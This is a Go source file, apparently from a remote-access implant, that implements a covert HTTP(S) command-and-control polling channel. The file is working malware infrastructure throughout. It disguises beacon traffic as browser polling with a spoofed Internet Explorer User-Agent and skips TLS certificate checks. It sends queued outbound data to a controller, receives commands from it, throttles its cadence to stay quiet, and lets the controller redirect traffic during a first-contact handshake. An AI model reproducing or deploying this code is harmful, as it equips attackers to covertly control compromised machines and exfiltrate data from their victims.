/*
The httppoll package implements the agent's covert HTTP(S) polling channel.
On the wire it looks like ordinary web polling: browser-like headers, GET
when the agent has nothing to say, POST with queued payload otherwise. An
adaptive backoff ramps the poll cadence down while the controller is idle and
snaps back to fast polling the moment a command arrives, so bursts drain at
low latency while steady idle stays quiet.

The first successful exchange is consumed as a handshake rather than command
data: the controller may answer it with a patch-url frame that redirects all
subsequent traffic to a new path on the same host.

All channel state is owned by a single run-loop goroutine that consumes timer
fires and request completions, so the two state transitions are never
concurrent by construction. The outbound queue is the only resource shared
with other goroutines and carries its own lock.
*/
package httppoll

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"sync/atomic"
	"time"

	"gopkg.in/tomb.v2"

	"remora.dev/agent/bufferqueue"
	"remora.dev/agent/c2"
	"remora.dev/agent/httpclient"
	"remora.dev/agent/logger"
	"remora.dev/agent/tlv"
)

const (
	// Backoff policy. A command resets the cadence to fastPollInterval; idle
	// polls ramp it from rampFloor in rampStep increments up to
	// maxPollInterval, where it stays until the next command.
	fastPollInterval = 10 * time.Millisecond
	rampFloor        = 100 * time.Millisecond
	rampStep         = 100 * time.Millisecond
	maxPollInterval  = 5 * time.Second

	// The argument segment of an assigned address is separated from the
	// endpoint by this character, e.g. https://host/path|--ua curl/8.0
	argSeparator = "|"

	defaultUserAgent = "Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko"
	contentType      = "application/octet-stream"

	waitForCloseTimeout = 10 * time.Second
)

// Requester performs one request/response exchange. A status of zero means
// the exchange failed at the transport level. Satisfied by
// httpclient.HttpClient.
type Requester interface {
	Do(ctx context.Context, method string, endpoint string, body []byte) (int, []byte, error)
}

type pollResult struct {
	status int
	body   []byte
}

type Poller struct {
	tmb    tomb.Tomb
	ctx    context.Context
	logger *logger.Logger
	host   c2.Host

	client Requester

	// endpoint may be rewritten once by the first-contact handshake; it is
	// only ever touched by the run loop
	endpoint string

	egress *bufferqueue.Queue

	pollInterval    time.Duration
	handshakeDone   bool
	requestInFlight bool
	running         atomic.Bool
	started         atomic.Bool

	results chan pollResult
}

// Register binds the polling channel to the registry for both the plaintext
// and TLS schemes; they share this implementation.
func Register(registry *c2.Registry) {
	builder := func(logger *logger.Logger, host c2.Host, address string) (c2.Transport, error) {
		return New(logger, host, address)
	}
	registry.Register("http", builder)
	registry.Register("https", builder)
}

func New(logger *logger.Logger, host c2.Host, address string) (*Poller, error) {
	endpoint, userAgent := parseAddress(address)

	parsed, err := url.ParseRequestURI(endpoint)
	if err != nil {
		return nil, err
	}
	if parsed.Host == "" {
		return nil, fmt.Errorf("endpoint %s has no authority", endpoint)
	}

	client := httpclient.New(logger.GetComponentLogger("HttpClient"), httpclient.HTTPOptions{
		Headers: http.Header{
			"Connection": {"close"},
			"User-Agent": {userAgent},
		},
		ContentType:   contentType,
		SkipTLSVerify: true,
	})

	return &Poller{
		logger:   logger,
		host:     host,
		client:   client,
		endpoint: endpoint,
		egress:   bufferqueue.New(),
		results:  make(chan pollResult, 1),
	}, nil
}

// parseAddress splits an assigned address into the endpoint and the
// User-Agent to present. Tokens other than --ua are ignored.
func parseAddress(address string) (endpoint string, userAgent string) {
	userAgent = defaultUserAgent

	endpoint, args, found := strings.Cut(address, argSeparator)
	if !found {
		return endpoint, userAgent
	}

	tokens := strings.Fields(args)
	for i, token := range tokens {
		if token == "--ua" && i+1 < len(tokens) {
			userAgent = tokens[i+1]
		}
	}
	return endpoint, userAgent
}

// Start arms the poller at the fast cadence so first contact happens
// immediately.
func (p *Poller) Start() error {
	p.started.Store(true)
	p.running.Store(true)
	p.pollInterval = fastPollInterval
	p.ctx = p.tmb.Context(context.Background())

	p.tmb.Go(p.poll)

	p.logger.Infof("polling channel started against %s", p.endpoint)
	return nil
}

// Egress queues bytes for transmission. The next poll tick picks them up,
// even if a request is in flight right now.
func (p *Poller) Egress(data []byte) {
	p.egress.Append(data)
}

// Stop prevents further polls from being scheduled. An in-flight exchange
// still completes and its reachability and backoff side effects still apply.
func (p *Poller) Stop() {
	p.running.Store(false)
	p.logger.Info("polling channel stopped, no further polls will be scheduled")
}

// Close releases the channel. It is idempotent, so the host may call it from
// any combination of its teardown hooks.
func (p *Poller) Close(reason error) {
	if p.tmb.Alive() {
		p.logger.Infof("polling channel closing because: %s", reason)
		p.running.Store(false)
		p.tmb.Kill(reason)
		if !p.started.Load() {
			// nothing was ever launched; give the tomb a goroutine to run
			// down so Done() still closes for observers
			p.tmb.Go(func() error { return nil })
		}
		p.tmb.Wait()
	} else {
		p.logger.Info("close was called while in a dying state")
	}
}

func (p *Poller) Done() <-chan struct{} {
	return p.tmb.Dead()
}

func (p *Poller) Err() error {
	return p.tmb.Err()
}

// poll is the run loop: the only goroutine that mutates channel state. The
// timer is rearmed on every tick with whatever the interval is at that
// moment, which is how backoff changes made by a completion take effect.
func (p *Poller) poll() error {
	p.logger.Info("polling loop started")
	defer p.logger.Info("polling loop stopped")

	timer := time.NewTimer(p.pollInterval)
	defer timer.Stop()

	for {
		select {
		case <-p.tmb.Dying():
			if p.requestInFlight {
				// The dying context has aborted the exchange already; all
				// that is left is to apply its side effects
				select {
				case result := <-p.results:
					p.handleResponse(result)
				case <-time.After(waitForCloseTimeout):
					p.logger.Errorf("timed out after %s waiting for in-flight poll", waitForCloseTimeout)
				}
			}
			return nil
		case <-timer.C:
			p.tick()
			if p.running.Load() {
				timer.Reset(p.pollInterval)
			}
		case result := <-p.results:
			p.handleResponse(result)
		}
	}
}

// tick issues at most one exchange. A tick that lands while a request is
// outstanding is a pure rearm.
func (p *Poller) tick() {
	if p.requestInFlight {
		return
	}
	p.requestInFlight = true

	method := http.MethodGet
	var body []byte
	if !p.egress.IsEmpty() {
		method = http.MethodPost
		body = p.egress.DrainAll()
	}

	endpoint := p.endpoint
	p.tmb.Go(func() error {
		status, responseBody, err := p.client.Do(p.ctx, method, endpoint, body)
		if err != nil {
			p.logger.Debugf("%s poll failed: %s", method, err)
		}
		// results is buffered for the one outstanding exchange, so this
		// never blocks
		p.results <- pollResult{status: status, body: responseBody}
		return nil
	})
}

// handleResponse interprets one completed exchange and updates the backoff.
func (p *Poller) handleResponse(result pollResult) {
	// Any completed exchange proves the network path works, HTTP error
	// statuses included
	if result.status > 0 {
		p.host.Reachable()
	} else {
		p.host.Unreachable()
	}

	gotCommand := false
	if result.status == http.StatusOK {
		queue := bufferqueue.New()
		queue.Append(result.body)

		if !p.handshakeDone {
			// The first 200 is consumed as the handshake, never as command
			// data, and counts as evidence of a live session either way
			p.patchEndpoint(queue)
			p.handshakeDone = true
			gotCommand = true
		} else if !queue.IsEmpty() {
			gotCommand = true
			p.host.DeliverInbound(queue)
		}
	}

	if gotCommand {
		p.pollInterval = fastPollInterval
	} else if p.pollInterval < rampFloor {
		p.pollInterval = rampFloor
	} else if p.pollInterval < maxPollInterval {
		p.pollInterval += rampStep
	}

	p.requestInFlight = false
}

// patchEndpoint runs the first-contact handshake against the response body.
// If the controller sent a patch-url frame, traffic moves to the new path on
// the same scheme and host; anything else leaves the endpoint alone. The
// handshake tolerates a controller that chooses not to rewrite.
func (p *Poller) patchEndpoint(queue *bufferqueue.Queue) {
	packet, err := tlv.ReadPacket(queue)
	if err != nil {
		p.logger.Debugf("handshake response carried no frame: %s", err)
		return
	}

	method, ok := packet.GetString(tlv.TypeMethod)
	if !ok || method != tlv.MethodPatchURL {
		return
	}

	newPath, ok := packet.GetString(tlv.TypeTransURL)
	if !ok || newPath == "" {
		return
	}

	parsed, err := url.Parse(p.endpoint)
	if err != nil || parsed.Host == "" || parsed.Path == "" {
		// An endpoint with no path component is left unchanged
		return
	}

	p.endpoint = parsed.Scheme + "://" + parsed.Host + newPath
	p.logger.Infof("controller patched endpoint to %s", p.endpoint)
}
